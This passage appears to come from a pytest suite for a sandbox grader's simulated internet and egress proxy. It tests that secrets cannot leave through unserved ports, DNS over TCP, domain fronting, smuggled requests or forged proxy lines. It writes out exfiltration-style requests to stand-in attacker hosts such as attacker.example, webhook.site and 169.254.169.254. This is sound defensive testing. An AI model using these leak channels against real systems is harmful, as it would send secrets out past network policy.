        sock.sendall(f"{token}.direct\n".encode())
        sock.shutdown(socket.SHUT_WR)
        assert sock.recv(64) == f"ok {services.nonce}\n".encode()
    _wait_for(services.internet_out / "tcp.jsonl", lambda r: r["data"] == f"{token}.direct\n")


def test_the_parent_proxy_dials_no_port_but_the_sinks(services: Services, parent_proxy: tuple[int, Path]) -> None:
    """On the host's loopback any other port is the host's own service: never dialed, whatever the name."""
    port, log = parent_proxy
    with socket.create_server((LOCALHOST, 0)) as host_service:
        other = host_service.getsockname()[1]
        host_service.settimeout(0.5)
        head = _exchange(port, f"CONNECT github.com:{other} HTTP/1.1\r\n\r\n".encode())
        assert head.startswith(b"HTTP/1.1 502")
        with pytest.raises(socket.timeout):
            host_service.accept()
    record = _wait_for(log, lambda r: r["port"] == other)
    # no host of the world serves that port: refused before any lookup (with no world, "no sink listens")
    assert record["decision"] == "deny" and record["cause"] == "not-served" and record["reason"].startswith(proxy.NOT_SERVED), record


def test_the_parent_proxy_still_refuses_names_no_server_answers(parent_proxy: tuple[int, Path]) -> None:
    port, log = parent_proxy
    assert _exchange(port, b"CONNECT 127.0.0.1:443 HTTP/1.1\r\n\r\n").startswith(b"HTTP/1.1 502")
    assert "NXDOMAIN" in _wait_for(log, lambda r: r["host"] == LOCALHOST)["reason"]
    assert _exchange(port, b"CONNECT nowhere.example:443 HTTP/1.1\r\n\r\n").startswith(b"HTTP/1.1 502")
    assert "NXDOMAIN" in _wait_for(log, lambda r: r["host"] == "nowhere.example")["reason"]


def test_each_service_beats_only_while_it_answers(services: Services) -> None:
    """The heartbeat follows real self-checks: a stopped (hung) service stops beating."""
    import signal

    firsts = {}
    for out in (services.internet_out, services.proxy_out):
        beat = out / "heartbeat"
        deadline = time.monotonic() + 5
        while not beat.exists() and time.monotonic() < deadline:
            time.sleep(0.05)
        firsts[out] = float(beat.read_text())
    time.sleep(common.HEARTBEAT_INTERVAL * 1.5)  # unasked, a check comes every interval (both services at once)
    for out, first in firsts.items():
        assert float((out / "heartbeat").read_text()) > first, f"{out.name} stopped beating"
    pid = json.loads((services.proxy_out / "ready").read_text())["pid"]
    os.kill(pid, signal.SIGSTOP)
    try:
        time.sleep(0.3)
        frozen = (services.proxy_out / "heartbeat").read_text()
        os.kill(pid, common.POKE_SIGNAL)  # asked, too: a hung service's poke waits with it
        time.sleep(common.HEARTBEAT_INTERVAL * 1.5)
        assert (services.proxy_out / "heartbeat").read_text() == frozen
    finally:
        os.kill(pid, signal.SIGCONT)


_POKED = """
import sys, threading
from grader.protocol import common
common.HEARTBEAT_INTERVAL = 60.0  # longer than the test: only a poke can bring a second beat
out, fail = sys.argv[1], sys.argv[2]
def check():
    if __import__("os").path.exists(fail):
        raise OSError("the listener gave no answer")
def poked():  # what the internet's recorder is given (``Recorder.nudge``): each poke leaves a mark
    open(__import__("os").path.join(out, "pokes"), "a").write("poke\\n")
common.heartbeat(out, check, on_poke=poked)
threading.Event().wait()
"""


def test_a_poke_brings_the_next_self_check_forward_and_never_forges_a_beat(tmp_path: Path) -> None:
    """SIGUSR1 (what the grader sends once a sandbox finished) makes the service check itself at once; a failing
    check still writes no beat, so a poked recorder that cannot answer stays silent, as it would unpoked."""
    import signal

    fail = tmp_path / "fail"
    proc = subprocess.Popen([sys.executable, "-c", _POKED, str(tmp_path), str(fail)])
    beat = tmp_path / "heartbeat"
    try:
        deadline = time.monotonic() + 20
        while not beat.exists() and time.monotonic() < deadline:
            time.sleep(0.02)
        first = float(beat.read_text())
        os.kill(proc.pid, signal.SIGUSR1)
        while float(beat.read_text()) == first and time.monotonic() < deadline:
            time.sleep(0.02)
        second = float(beat.read_text())
        assert second > first, "a poke did not bring a self-check forward"
        assert (tmp_path / "pokes").read_text() == "poke\n", "the poke was not passed on (the recorder looks often after one)"
        fail.touch()
        for _ in range(3):
            os.kill(proc.pid, signal.SIGUSR1)
            time.sleep(0.3)
        assert float(beat.read_text()) == second, "a poked service whose check failed wrote a beat"
        assert proc.poll() is None, "the poke killed the service"
    finally:
        proc.kill()
        proc.wait()


# --- names the world does not know, and host identity ------------------------------------------

OPERATORS = ["github.com", "githubusercontent.com", "npmjs.org", "pypi.org", "pythonhosted.org"]
FAIL_CLOSED_ALLOWED = ["pypi.org", "files.pythonhosted.org", "webhook.site", "169.254.169.254", "localhost", "*.ngrok.io"]


@pytest.fixture(scope="module")
def fail_closed(services: Services, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Services]:
    """The internet as the backends start it: every name the world does not know is the attacker's server."""
    root = tmp_path_factory.mktemp("fail-closed")
    opt = root / "opt"
    shutil.copytree(services.proxy_out.parent / "opt", opt)
    dns, http, https, tcp, proxy_port = free_ports(5)
    world = Services(root / "internet", root / "proxy", uuid.uuid4().hex, dns, http, https, tcp, proxy_port)
    procs: list[subprocess.Popen[bytes]] = []
    try:
        procs.append(_start("internet.py", {
            "hosts": HOSTS, "wildcard_zones": ["attacker.example"], "operators": OPERATORS, "catch_all": "attacker.example",
            "address": LOCALHOST, "bind": LOCALHOST, "dns_port": dns, "http_port": http, "https_port": https,
            "tcp_ports": [tcp], "out_dir": str(world.internet_out), "nonce": world.nonce,
            "serves": _serves(dns, http, https, tcp),
        }, opt, world.internet_out))  # fmt: skip
        procs.append(_start("proxy.py", {
            "allowed": FAIL_CLOSED_ALLOWED, "listen_port": proxy_port, "bind": LOCALHOST,
            "dns_server": LOCALHOST, "dns_port": dns, "out_dir": str(world.proxy_out),
            "world": _world(dns, http, https, tcp, OPERATORS, "attacker.example"),
        }, opt, world.proxy_out))  # fmt: skip
        yield world
    finally:
        for proc in procs:
            _stop(proc)


def _tls_exchange(sock: socket.socket, ca: Path, sni: str, request: bytes) -> bytes:
    """TLS over ``sock`` verifying the run's CA (strictly, as Python 3.13 does), one request, the whole answer."""
    context = ssl.create_default_context(cafile=str(ca))
    context.verify_flags |= ssl.VERIFY_X509_STRICT
    with context.wrap_socket(sock, server_hostname=sni) as tls:
        tls.sendall(request)
        response = b""
        while chunk := tls.recv(4096):
            response += chunk
    return response


def _post(host: str, path: str, body: str) -> bytes:
    return f"POST {path} HTTP/1.1\r\nHost: {host}\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n{body}".encode()


def test_read_target_takes_only_the_proxys_line() -> None:
    a, b = socket.socketpair()
    with a, b:
        a.sendall(common.target_line("pypi.org") + b"\x16\x03\x01 hello")
        assert common.read_target(b, 1.0) == "pypi.org"
        assert b.recv(100) == b"\x16\x03\x01 hello"  # the ClientHello behind it is left for TLS
        a.sendall(b"GET / HTTP/1.1\r\n\r\n")
        assert common.read_target(b, 1.0) is None
        assert b.recv(100) == b"GET / HTTP/1.1\r\n\r\n"  # a direct connection loses nothing


def test_dns_answers_unknown_names_for_the_attacker_but_not_an_operators_missing_ones(fail_closed: Services) -> None:
    for name in ["webhook.site", "localhost", "169.254.169.254", "x.ngrok.io", "host.docker.internal", "pypi.org"]:
        assert nameserver.query_a(LOCALHOST, name, fail_closed.dns) == [LOCALHOST], name
    for name in ["nope.pypi.org", "abc.github.com", "heartbeat.invalid"]:
        assert nameserver.query_a(LOCALHOST, name, fail_closed.dns) == [], name


@pytest.mark.parametrize("name", ["webhook.site", "169.254.169.254", "localhost", "tok3n.ngrok.io"])
def test_an_allowed_name_the_world_does_not_know_really_lands(fail_closed: Services, name: str) -> None:
    """Through the proxy, with a certificate the run's CA signs for that very name (an IP SAN for an address)."""
    token = uuid.uuid4().hex
    sock, head = _connect_through(fail_closed, name, fail_closed.https)
    assert head.startswith(b"HTTP/1.1 200"), head
    response = _tls_exchange(sock, fail_closed.internet_out / "ca.pem", name, _post(name, f"/upload/{token}", f"key {token}"))
    assert response.startswith(b"HTTP/1.1 200"), response
    record = _wait_for(fail_closed.internet_out / "http.jsonl", lambda r: token in str(r.get("path")))
    assert (record["host"], record["body"], record.get("via")) == (name, f"key {token}", None)


def test_a_tls_name_of_another_server_is_refused_inside_a_tunnel(fail_closed: Services) -> None:
    """CONNECT pypi.org, then SNI attacker.example: pypi.org's server does not answer for it."""
    for sni in ("attacker.example", "upload.pypi.org"):
        sock, head = _connect_through(fail_closed, "pypi.org", fail_closed.https)
        assert head.startswith(b"HTTP/1.1 200")
        with sock, pytest.raises(ssl.SSLError):
            _tls_exchange(sock, fail_closed.internet_out / "ca.pem", sni, _post(sni, "/upload/x", "secret"))
        record = _wait_for(fail_closed.internet_out / "http.jsonl", lambda r: r.get("misdirected") == sni)
        assert (record["host"], record["stage"]) == ("pypi.org", "tls") and record["body"] == "" and record["body_len"] == 0
    delivered = [r for r in _records(fail_closed.internet_out / "http.jsonl") if r.get("body") == "secret"]
    assert delivered == []


def test_a_host_header_of_another_server_gets_421_and_nothing_is_delivered(fail_closed: Services) -> None:
    """CONNECT pypi.org, SNI pypi.org (so even a proxy that reads SNI passes it), Host upload.pypi.org: domain fronting."""
    token = uuid.uuid4().hex
    sock, head = _connect_through(fail_closed, "pypi.org", fail_closed.https)
    assert head.startswith(b"HTTP/1.1 200")
    response = _tls_exchange(sock, fail_closed.internet_out / "ca.pem", "pypi.org", _post("upload.pypi.org", f"/front/{token}", token))
    assert response.startswith(b"HTTP/1.1 421"), response
    record = _wait_for(fail_closed.internet_out / "http.jsonl", lambda r: token in str(r.get("path")))
    assert (record["host"], record["misdirected"], record["stage"]) == ("pypi.org", "upload.pypi.org", "http")
    assert record["body"] == "" and record["body_len"] == 0
    assert not [r for r in _records(fail_closed.internet_out / "http.jsonl") if token in str(r.get("body", ""))]


def _answer(answers: Any) -> tuple[bytes, dict[str, str], bytes]:
    """One response read off a kept connection: its status line, headers and body (by its Content-Length)."""
    status = answers.readline().strip()
    headers = {}
    while (line := answers.readline().strip()):
        name, _, value = line.decode().partition(":")
        headers[name.strip().lower()] = value.strip()
    return status, headers, answers.read(int(headers.get("content-length", "0")))


def test_after_a_refused_name_the_connection_carries_the_next_request_and_only_its_own_name_is_delivered(
        fail_closed: Services) -> None:
    """The client trying name after name in one tunnel: a 421 keeps the connection (its body read and dropped); the
    server's own name is delivered and closes it. A request hidden in a refused request's body is never served:
    that body is read to its declared length and dropped, as a whole."""
    token, hidden = uuid.uuid4().hex, uuid.uuid4().hex
    smuggled = _post("pypi.org", f"/front/{hidden}", hidden).decode()
    sock, head = _connect_through(fail_closed, "pypi.org", fail_closed.https)
    assert head.startswith(b"HTTP/1.1 200")
    context = ssl.create_default_context(cafile=str(fail_closed.internet_out / "ca.pem"))
    with context.wrap_socket(sock, server_hostname="pypi.org") as tls, tls.makefile("rb") as answers:
        for name, body in (("upload.pypi.org", token), ("attacker.example", smuggled), ("pypi.org", token)):
            tls.sendall(f"POST /front/{token} HTTP/1.1\r\nHost: {name}\r\nContent-Length: {len(body)}\r\n\r\n{body}".encode())
            status, headers, _ = _answer(answers)
            if name != "pypi.org":
                assert (status, headers["connection"]) == (b"HTTP/1.1 421 Misdirected Request", "keep-alive"), (name, status)
        assert status.startswith(b"HTTP/1.1 200") and headers["connection"] == "close", status
        assert answers.read() == b""  # closed after the delivery
    delivered = _wait_for(fail_closed.internet_out / "http.jsonl", lambda r: token in str(r.get("path")) and not r.get("misdirected"))
    assert (delivered["host"], delivered["body"]) == ("pypi.org", token)
    refused = [r for r in _records(fail_closed.internet_out / "http.jsonl") if token in str(r.get("path")) and r.get("misdirected")]
    assert sorted(r["misdirected"] for r in refused) == ["attacker.example", "upload.pypi.org"]
    assert all(r["body"] == "" and r["body_len"] == 0 for r in refused), refused
    assert not [r for r in _records(fail_closed.internet_out / "http.jsonl") if hidden in json.dumps(r)]


@pytest.mark.parametrize("extra", ["Connection: close\r\n", "Expect: 100-continue\r\n"])
def test_a_refused_request_that_asks_to_close_or_waits_to_send_its_body_is_closed_after_the_421(
        fail_closed: Services, extra: str) -> None:
    sock, head = _connect_through(fail_closed, "pypi.org", fail_closed.https)
    assert head.startswith(b"HTTP/1.1 200")
    context = ssl.create_default_context(cafile=str(fail_closed.internet_out / "ca.pem"))
    with context.wrap_socket(sock, server_hostname="pypi.org") as tls, tls.makefile("rb") as answers:
        tls.sendall(f"POST /front/x HTTP/1.1\r\nHost: upload.pypi.org\r\nContent-Length: 5\r\n{extra}\r\n".encode())
        status, headers, _ = _answer(answers)
        assert (status, headers["connection"]) == (b"HTTP/1.1 421 Misdirected Request", "close")


def test_the_attackers_server_answers_for_all_the_attackers_names(fail_closed: Services) -> None:
    """A tunnel to a name the attacker owns reaches the attacker's server, which answers for attacker.example too."""
    token = uuid.uuid4().hex
    sock, head = _connect_through(fail_closed, "webhook.site", fail_closed.https)
    assert head.startswith(b"HTTP/1.1 200")
    response = _tls_exchange(sock, fail_closed.internet_out / "ca.pem", "attacker.example", _post("attacker.example", f"/front/{token}", token))
    assert response.startswith(b"HTTP/1.1 200"), response
    record = _wait_for(fail_closed.internet_out / "http.jsonl", lambda r: token in str(r.get("path")))
    assert (record["host"], record["via"], record["body"]) == ("attacker.example", "webhook.site", token)


def test_plain_http_to_an_unknown_name_and_a_forged_line_behind_the_proxys(fail_closed: Services) -> None:
    token = uuid.uuid4().hex
    response = _exchange(fail_closed.proxy, f"GET http://webhook.site:{fail_closed.http}/{token} HTTP/1.1\r\n\r\n".encode())
    assert response.startswith(b"HTTP/1.1 200") and _body_json(response)["host"] == "webhook.site"
    # the client's own "target line" comes after the proxy's: it is only a malformed request to pypi.org
    sock, head = _connect_through(fail_closed, "pypi.org", fail_closed.http)
    with sock:
        sock.sendall(common.target_line("attacker.example") + f"GET /{token}x HTTP/1.1\r\nHost: attacker.example\r\n\r\n".encode())
        sock.shutdown(socket.SHUT_WR)
        answer = sock.recv(4096)
    assert answer.startswith(b"HTTP/1.1 400"), answer
    record = _wait_for(fail_closed.internet_out / "http.jsonl", lambda r: f"{token}x" in str(r.get("body")))
    assert record["host"] == "pypi.org"


def test_a_direct_connection_reaches_the_shared_address_which_answers_any_name(fail_closed: Services) -> None:
    """Without the proxy's line (the plain container's own resolver), every name shares one address."""
    token = uuid.uuid4().hex
    with socket.create_connection((LOCALHOST, fail_closed.https), timeout=5) as raw:
        response = _tls_exchange(raw, fail_closed.internet_out / "ca.pem", "pypi.org", _post("upload.pypi.org", f"/d/{token}", token))
    assert response.startswith(b"HTTP/1.1 200")
    record = _wait_for(fail_closed.internet_out / "http.jsonl", lambda r: token in str(r.get("path")))
    assert record["host"] == "upload.pypi.org" and record["via"] is None


def test_the_proxy_dials_nothing_but_the_simulated_internet(fail_closed: Services, tmp_path: Path) -> None:
    """Whatever a lookup answers, the proxy dials only its DNS server's address: never loopback's other
    addresses, the metadata service, the host, another network."""
    opt = fail_closed.proxy_out.parent / "opt"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as liar, socket.create_server(("127.0.0.2", 0)) as elsewhere:
        liar.bind((LOCALHOST, 0))
        elsewhere.settimeout(0.5)
        port_elsewhere = elsewhere.getsockname()[1]

        def answer() -> None:  # a DNS server that points every name somewhere else
            data, peer = liar.recvfrom(4096)
            query = nameserver.parse_query(data)
            assert query is not None
            liar.sendto(nameserver.build_response(query, addresses=["127.0.0.2"]), peer)

        threading.Thread(target=answer, daemon=True).start()
        (port,) = free_ports(1)
        out = tmp_path / "proxy"
        # no world (as the exported script runs it): the dial guard alone must hold
        proc = _start("proxy.py", {"allowed": ["webhook.site"], "listen_port": port, "bind": LOCALHOST, "world": None,
                                   "dns_server": LOCALHOST, "dns_port": liar.getsockname()[1], "out_dir": str(out)}, opt, out)  # fmt: skip
        try:
            head = _exchange(port, f"CONNECT webhook.site:{port_elsewhere} HTTP/1.1\r\n\r\n".encode())
            with pytest.raises(socket.timeout):
                elsewhere.accept()
        finally:
            _stop(proc)
    assert head.startswith(b"HTTP/1.1 502"), head
    record = _wait_for(out / "proxy.jsonl", lambda r: r["host"] == "webhook.site")
    assert "refused to dial 127.0.0.2" in record["reason"]


# --- hosts answer only on their own ports (issue 22, finding 4) --------------------------------
#
# Every simulated host shares one address. The attack this section pins: a sandbox whose policy
# allows only download hosts (pypi.org, registry.npmjs.org) asks its proxy for
# ``CONNECT registry.npmjs.org:4444`` (the attacker's raw listener) or ``CONNECT pypi.org:53`` (the
# attacker's nameserver, DNS over TCP), and the shared address used to answer both: the flag left over
# channels the real internet does not have, while grading the same policy said no secret leaves.
# Now the proxy refuses a port the name's server does not serve before any lookup, and each listener
# of the internet refuses a proxied connection for a name whose server does not serve its port,
# before reading a byte of it; both log the refusal with its reason and no payload.


def _send_refusable(port: int, data: bytes) -> bytes:
    """Send ``data`` and read until the server closes; a server that closes on unread bytes resets: b"" then."""
    answer = b""
    with socket.create_connection((LOCALHOST, port), timeout=5) as sock:
        try:
            sock.sendall(data)
            sock.shutdown(socket.SHUT_WR)
            while chunk := sock.recv(4096):
                answer += chunk
        except OSError:
            pass  # reset or closed: refused before anything was read
    return answer


def _dns_over_tcp(sock: socket.socket, name: str) -> bytes:
    """Send one length-prefixed A query for ``name``; return the answer ("" when the server closed instead)."""
    query = nameserver.build_query(0x5151, name)
    answer = b""
    try:
        sock.sendall(len(query).to_bytes(2, "big") + query)
        sock.shutdown(socket.SHUT_WR)
        while chunk := sock.recv(4096):
            answer += chunk
    except OSError:
        pass  # refused with unread bytes: the kernel resets
    return answer


@pytest.mark.parametrize("port_of", ["tcp", "dns"])
def test_an_allowed_download_host_on_the_attackers_ports_is_refused_by_the_proxy(services: Services, port_of: str) -> None:
    """CONNECT registry.npmjs.org:<raw port> and :<DNS port>: allowed by name, served by nothing."""
    port = getattr(services, port_of)
    token = uuid.uuid4().hex
    sock, head = _connect_through(services, "registry.npmjs.org", port)
    with sock:
        assert head.startswith(b"HTTP/1.1 502"), head
        assert b"X-Proxy-Error: blocked-by-allowlist" not in head  # the policy allowed the name; the world refused
    response = _exchange(services.proxy, f"POST http://registry.npmjs.org:{port}/{token} HTTP/1.1\r\nContent-Length: 5\r\n\r\nFLAG!".encode())
    assert response.startswith(b"HTTP/1.1 502") and b"serves no port" in response
    refusals = [r for r in _records(services.proxy_out / "proxy.jsonl") if r["host"] == "registry.npmjs.org" and r["port"] == port]
    assert [(r["method"], r["decision"]) for r in refusals][-2:] == [("CONNECT", "deny"), ("POST", "deny")]
    reason = refusals[-1]["reason"]
    assert reason.startswith(proxy.NOT_SERVED) and f"serves no port {port}" in reason, reason
    assert 'matches allowed entry "registry.npmjs.org"' in reason  # the log says both: the policy's yes, the world's no
    assert not [r for r in _records(services.internet_out / "tcp.jsonl") if token in str(r.get("data", ""))]


def test_spelling_the_name_or_the_port_differently_changes_nothing(services: Services) -> None:
    """The name is judged normalized (case, a trailing dot) and the port as a number (leading zeros)."""
    for authority in (f"REGISTRY.npmjs.org.:{services.tcp}", f"registry.npmjs.org:0{services.tcp}", f"Registry.NPMJS.org:{services.dns}"):
        head = _exchange(services.proxy, f"CONNECT {authority} HTTP/1.1\r\n\r\n".encode())
        assert head.startswith(b"HTTP/1.1 502"), (authority, head)
    assert not [r for r in _records(services.proxy_out / "proxy.jsonl")
                if r["host"] == "registry.npmjs.org" and r["port"] in (services.tcp, services.dns) and r["decision"] == "allow"]


def test_an_allowed_host_on_its_own_ports_is_let_through(services: Services) -> None:
    for port in (services.https, services.http):
        sock, head = _connect_through(services, "registry.npmjs.org", port)
        sock.close()
        assert head.startswith(b"HTTP/1.1 200"), (port, head)
    record = _wait_for(services.proxy_out / "proxy.jsonl", lambda r: r["host"] == "registry.npmjs.org" and r["port"] == services.https)
    assert record["decision"] == "allow" and not record["reason"].startswith(proxy.NOT_SERVED)


def test_the_ports_decision_is_the_worlds() -> None:
    """The proxy's rule, pure: a name's server, then that server's ports; the attacker's server serves every name it owns."""
    ports = proxy.Ports.from_config({
        "serves": {"pypi.org": [80, 443], "attacker.example": [53, 80, 443, 4444]},
        "wildcard_zones": ["attacker.example"], "operators": ["pypi.org"], "catch_all": "attacker.example",
    })  # fmt: skip
    assert ports.refusal("pypi.org", 443) is None and ports.refusal("pypi.org", 80) is None
    for port in (4444, 53, 22, 8080):
        why = ports.refusal("pypi.org", port)
        assert why is not None and why.startswith(proxy.NOT_SERVED) and f"no port {port}" in why
    for name in ("attacker.example", "x.attacker.example", "webhook.site", "169.254.169.254"):
        assert ports.refusal(name, 4444) is None and ports.refusal(name, 53) is None, name
        assert ports.refusal(name, 22) is not None, name
    assert ports.refusal("nope.pypi.org", 4444) is None  # no server has the name: the lookup answers NXDOMAIN
    for bad in ({}, {"serves": {}, "wildcard_zones": [], "operators": [], "catch_all": None},
                {"serves": {"pypi.org": ["443"]}, "wildcard_zones": [], "operators": [], "catch_all": None},
                {"serves": {"pypi.org": [443]}, "wildcard_zones": ["attacker.example"], "operators": [], "catch_all": None}):
        with pytest.raises(ValueError):
            proxy.Ports.from_config(bad)


def test_the_raw_listener_refuses_a_tunnel_to_any_host_but_the_attackers(services: Services) -> None:
    """What a proxy without the ports check (or a bug in it) would deliver: the listener refuses it by itself."""
    token = uuid.uuid4().hex
    for name in ("registry.npmjs.org", "pypi.org", "gist.github.com"):
        assert _send_refusable(services.tcp, common.target_line(name) + f"FLAG {token}\n".encode()) == b""  # no "ok"
        record = _wait_for(services.internet_out / "tcp.jsonl", lambda r, n=name: r.get("via") == n and "refused" in r)
        assert f"serves no port {services.tcp}" in record["refused"] and record["data"] == ""
    assert not [r for r in _records(services.internet_out / "tcp.jsonl") if token in str(r.get("data", ""))]
    with socket.create_connection((LOCALHOST, services.tcp), timeout=5) as sock:  # the attacker's own name: served
        sock.sendall(common.target_line("x.attacker.example") + f"FLAG {token}\n".encode())
        sock.shutdown(socket.SHUT_WR)
        assert sock.recv(100) == f"ok {services.nonce}\n".encode()
    record = _wait_for(services.internet_out / "tcp.jsonl", lambda r: token in str(r.get("data", "")))
    assert record["via"] == "x.attacker.example" and record.get("refused") is None


def test_dns_over_tcp_refuses_a_tunnel_to_any_host_but_the_nameservers(services: Services) -> None:
    """CONNECT pypi.org:53 reaching the DNS listener: no query in it is read, answered or logged."""
    token = uuid.uuid4().hex
    with socket.create_connection((LOCALHOST, services.dns), timeout=5) as sock:
        sock.sendall(common.target_line("pypi.org"))
        assert _dns_over_tcp(sock, f"{token}.attacker.example") == b""
    record = _wait_for(services.internet_out / "dns.jsonl", lambda r: r.get("via") == "pypi.org")
    assert f"serves no port {services.dns}" in record["refused"] and record["qname"] == ""
    assert not [r for r in _records(services.internet_out / "dns.jsonl") if token in str(r.get("qname", ""))]
    with socket.create_connection((LOCALHOST, services.dns), timeout=5) as sock:  # to the nameserver's own name
        sock.sendall(common.target_line("attacker.example"))
        answer = _dns_over_tcp(sock, f"{token}b.attacker.example")
    assert nameserver.parse_response(answer[2:]).addresses == (LOCALHOST,)
    _wait_for(services.internet_out / "dns.jsonl", lambda r: r.get("qname") == f"{token}b.attacker.example")


def test_an_http_listener_refuses_a_host_that_does_not_serve_its_port(services: Services) -> None:
    """host.docker.internal serves only the raw port here: a proxied connection to its HTTP port reads nothing."""
    token = uuid.uuid4().hex
    request = f"POST /{token} HTTP/1.1\r\nContent-Length: 1\r\n\r\nx".encode()
    assert _send_refusable(services.http, common.target_line("host.docker.internal") + request) == b""
    record = _wait_for(services.internet_out / "http.jsonl", lambda r: r.get("host") == "host.docker.internal" and "refused" in r)
    assert record["stage"] == "connect" and record["body"] == "" and record["path"] == ""
    assert not [r for r in _records(services.internet_out / "http.jsonl") if token in str(r.get("path", ""))]


def test_a_direct_connection_carries_no_name_and_is_served_as_before(services: Services) -> None:
    """Pinned on purpose: without the proxy's line (the plain container, on the internet's own network) the
    listener cannot tell which name was meant, and serves it. The plain container also reaches the attacker's
    own address, so whatever arrives here could have been sent to the attacker directly: a capture stays true."""
    token = uuid.uuid4().hex
    with socket.create_connection((LOCALHOST, services.dns), timeout=5) as sock:
        answer = _dns_over_tcp(sock, f"{token}.attacker.example")
    assert nameserver.parse_response(answer[2:]).addresses == (LOCALHOST,)
    record = _wait_for(services.internet_out / "dns.jsonl", lambda r: r.get("qname") == f"{token}.attacker.example")
    assert record.get("refused") is None and record.get("via") is None


@pytest.mark.parametrize("script, change, says", [
    ("internet.py", lambda c: c.pop("serves"), "missing keys ['serves']"),
    ("internet.py", lambda c: c["serves"].pop("pypi.org"), "no ports for pypi.org"),
    ("internet.py", lambda c: c["serves"].__setitem__("pypi.org", [22]), "no listener"),
    ("proxy.py", lambda c: c.pop("world"), "missing keys ['world']"),
    ("proxy.py", lambda c: c["world"]["serves"].pop("attacker.example"), "no ports for attacker.example"),
    # a "true" where a boolean is due stops the proxy: it was read as False (the allowlist applied) without a word
    ("proxy.py", lambda c: c.__setitem__("any_host", "true"), "config.any_host: expected bool, got str"),
    ("internet.py", lambda c: c.__setitem__("tcp_ports", ["4444"]), "config.tcp_ports[0]: expected int, got str"),
])  # fmt: skip
def test_a_service_without_the_worlds_ports_does_not_start(services: Services, tmp_path: Path, script: str,
                                                           change: Callable[[dict[str, Any]], Any], says: str) -> None:
    """Fail closed at start: a config that forgot the ports is never read as "every host serves every port"."""
    dns, http, https, tcp, port = free_ports(5)
    config: dict[str, Any] = {
        "hosts": HOSTS, "wildcard_zones": ["attacker.example"], "address": LOCALHOST, "bind": LOCALHOST,
        "dns_port": dns, "http_port": http, "https_port": https, "tcp_ports": [tcp], "nonce": "n",
        "serves": _serves(dns, http, https, tcp), "out_dir": str(tmp_path / "out"),
    } if script == "internet.py" else {
        "allowed": ["pypi.org"], "listen_port": port, "bind": LOCALHOST, "dns_server": LOCALHOST, "dns_port": dns,
        "out_dir": str(tmp_path / "out"), "world": _world(dns, http, https, tcp),
    }  # fmt: skip
    change(config)
    path = tmp_path / "config.json"
    path.write_text(json.dumps(config))
    opt = services.proxy_out.parent / "opt"
    env = {k: v for k, v in os.environ.items() if k != "PYTHONPATH"}
    done = subprocess.run([sys.executable, str(opt / script), str(path)], cwd=opt, env=env, capture_output=True, text=True, timeout=30)
    assert done.returncode != 0 and says in done.stderr, done.stderr[-500:]
    assert not (tmp_path / "out" / "ready").exists()


def test_the_srt_backends_services_serve_the_worlds_ports_on_their_loopback_ports(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The srt backend's configs (its internet on free loopback ports, its parent proxy mapping the world's
    ports to them), started as it starts them: the world's ports answer, an allowed download host's 4444 does not."""
    from grader import load_policy
    from grader.backends import srt
    from grader.core.plan import build_plan
    from grader.core.records import RawPorts

    monkeypatch.setenv("SANDBOX_LAB_RUNS", str(tmp_path))
    run = srt._Run(build_plan(load_policy({"network": {"allowedDomains": ["pypi.org"]}})), "")
    dns, http, https, port, *raw_here = free_ports(4 + len(run.plan.world.raw_ports))
    raw = RawPorts(tuple(zip(run.plan.world.raw_ports, raw_here)))
    tcp = raw.at(4444)
    try:
        run._start_services(dns, http, https, raw, port)
        token = uuid.uuid4().hex
        assert _send_refusable(port, b"CONNECT pypi.org:4444 HTTP/1.1\r\n\r\n").startswith(b"HTTP/1.1 502")
        assert _send_refusable(port, b"CONNECT pypi.org:53 HTTP/1.1\r\n\r\n").startswith(b"HTTP/1.1 502")
        answer = _send_refusable(port, f"CONNECT x.attacker.example:4444 HTTP/1.1\r\n\r\n{token}".encode())
        assert answer.startswith(b"HTTP/1.1 200") and answer.endswith(b"\n") and b"ok " in answer, answer
        internet = run.dir.path / "internet" / "out"
        _wait_for(internet / "tcp.jsonl", lambda r: r.get("data") == token and r.get("port") == tcp)
        with socket.create_connection((LOCALHOST, port), timeout=5) as sock:
            sock.sendall(b"CONNECT attacker.example:53 HTTP/1.1\r\n\r\n")
            head = b""
            while not head.endswith(b"\r\n\r\n") and (chunk := sock.recv(1)):
                head += chunk
            assert head.startswith(b"HTTP/1.1 200"), head
            assert nameserver.parse_response(_dns_over_tcp(sock, f"{token}.attacker.example")[2:]).addresses == (LOCALHOST,)
        refused = [r for r in _records(run.dir.path / "proxy" / "out" / "proxy.jsonl") if r["host"] == "pypi.org"]
        assert [(r["port"], r["decision"]) for r in refused] == [(4444, "deny"), (53, "deny")]
        assert all(r["reason"].startswith(proxy.NOT_SERVED) for r in refused)
    finally:
        for p in run.procs:
            _stop(p)
        shutil.rmtree(run.dir.path, ignore_errors=True)


# --- each run's evidence is its own, bounded and closed (common.Recorder, backends.runlogs) ------------------


def test_a_claimed_clients_records_go_to_its_runs_own_log_closed_with_their_count(services: Services) -> None:
    from grader.backends.files import host_files
    from grader.backends.runlogs import close_run, forget_run, open_run
    from grader.backends.runs import read_sinks

    out = host_files(services.internet_out)
    key = "sl-" + uuid.uuid4().hex[:10]
    open_run(out, key, [LOCALHOST])
    try:
        mine = f"/claimed/{key}"
        _exchange(services.http, f"POST {mine} HTTP/1.1\r\nHost: attacker.example\r\nContent-Length: 2\r\n\r\nhi".encode())
        texts = close_run(out, key)
        # after the close, the client is nobody's: its records go to the general log again
        after = f"/after/{key}"
        _exchange(services.http, f"GET {after} HTTP/1.1\r\nHost: attacker.example\r\n\r\n".encode())
        _wait_for(services.internet_out / "http.jsonl", lambda r: r["path"] == after)
    finally:
        forget_run(out, key)
    http, dns, tcp, incomplete = read_sinks(lambda name: texts[name], key)
    assert [r.path for r in http if r.path.startswith("/claimed/")] == [mine] and not incomplete
    assert all(r["path"] != mine for r in _records(services.internet_out / "http.jsonl"))  # in the run's log only
    # the run's files go once the grader is done with them
    deadline = time.monotonic() + 5
    while (services.internet_out / "runs" / key).exists() and time.monotonic() < deadline:
        time.sleep(0.02)
    assert not (services.internet_out / "runs" / key).exists()


def test_a_run_past_its_cap_keeps_what_it_had_and_says_it_lost_the_rest(tmp_path: Path) -> None:
    from grader.protocol.common import Recorder

    recorder = Recorder(str(tmp_path), ("http", "dns", "tcp"), cap=2000)
    (tmp_path / "runs" / "r1.open").write_text(json.dumps({"run": "r1", "clients": ["10.0.0.5"]}))
